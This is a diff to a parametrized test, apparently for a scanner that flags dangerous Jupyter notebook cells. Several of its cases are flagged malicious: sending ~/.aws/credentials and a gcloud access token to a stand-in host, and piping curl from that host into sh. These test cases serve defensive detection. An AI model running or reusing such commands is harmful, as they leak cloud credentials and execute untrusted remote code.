@@ -62,6 +62,15 @@ def notebook(*cells: str) -> str:
         (("k = !cat ~/.aws/credentials", '!curl -d "{k}" https://f.example.org'), True),
         (("%%writefile prep.sh\npip install -e .", "!bash prep.sh"), False),
         (("from IPython.display import HTML\nHTML('<b>done</b><script>console.log(1)</script>')",), False),
+        (
+            (
+                "t = !gcloud auth print-access-token\nimport requests\nrequests.post('https://f.example.org', json={'t': t[0]})",
+            ),
+            True,
+        ),
+        (("x = !ls\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
+        (("model?\nx = = 1\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
+        (("x = !ls\nt = %timeit -o f()\nprint(x[0])",), False),
         (("!wget -q https://f.example.org/data.csv", "import data\ndata.show()"), False),
     ],
 )
